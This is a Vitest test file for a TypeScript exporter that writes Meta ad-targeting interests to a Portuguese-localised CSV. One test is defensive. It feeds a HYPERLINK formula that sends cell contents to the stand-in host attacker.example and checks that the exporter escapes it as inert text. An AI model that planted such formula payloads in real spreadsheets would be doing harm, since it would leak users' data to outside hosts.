import type { Interest } from '@sniperads/contract';
import { describe, expect, it } from 'vitest';
import { csvFileName, interestsToCsv, namesForAdsManager } from './interests-csv';

const interest = (over: Partial<Interest>): Interest => ({
  id: '6003107902433',
  name: 'Emagrecimento',
  audience_size: 41_000_000,
  audience_size_lower: 41_000_000,
  audience_size_upper: 48_216_000,
  category: 'Fitness e bem-estar',
  path: ['Interesses', 'Fitness e bem-estar', 'Emagrecimento'],
  segment: 'Fitness e bem-estar',
  locale: 'pt_BR',
  description: null,
  rank: 1,
  hidden: false,
  audience_scope: 'mundial',
  origin: 'meta',
  ...over,
});

describe('interest CSV export', () => {
  it('writes a BOM, ; separators, CRLF and quotes where needed', () => {
    const csv = interestsToCsv([
      interest({}),
      interest({
        id: '2',
        name: 'Chá "detox"; natural',
        audience_size_lower: null,
        audience_size_upper: null,
        audience_size: 850_000,
        path: [],
        hidden: true,
      }),
    ]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'Nome;ID;Público mínimo;Público máximo;Categoria;Caminho;Oculto;Idioma',
      'Emagrecimento;6003107902433;41000000;48216000;Fitness e bem-estar;Interesses > Fitness e bem-estar > Emagrecimento;Não;pt_BR',
      '"Chá ""detox""; natural";2;850000;850000;Fitness e bem-estar;;Sim;pt_BR',
      '',
    ]);
  });

  it('writes formula-like names, categories and paths as inert text (CSV injection)', () => {
    const csv = interestsToCsv([
      interest({
        name: '=HYPERLINK("https://attacker.example/?d="&A3;"Ver")',
        category: '@SUM(A1)',
        path: ['-1+1'],
      }),
    ]);
    const [, row] = csv.slice(1).split('\r\n');
    expect(row).toBe(
      `"'=HYPERLINK(""https://attacker.example/?d=""&A3;""Ver"")";6003107902433;41000000;48216000;"'@SUM(A1)";"'-1+1";Não;pt_BR`,
    );
  });

  it('copies names the way Ads Manager takes them and names the file', () => {
    expect(namesForAdsManager([{ name: 'Yoga' }, { name: 'Pilates' }])).toBe('Yoga, Pilates');
    expect(csvFileName('Alimentação Saudável!', new Date('2026-03-04T10:00:00Z'))).toBe(
      'interesses-alimentacao-saudavel-2026-03-04.csv',
    );
  });
});
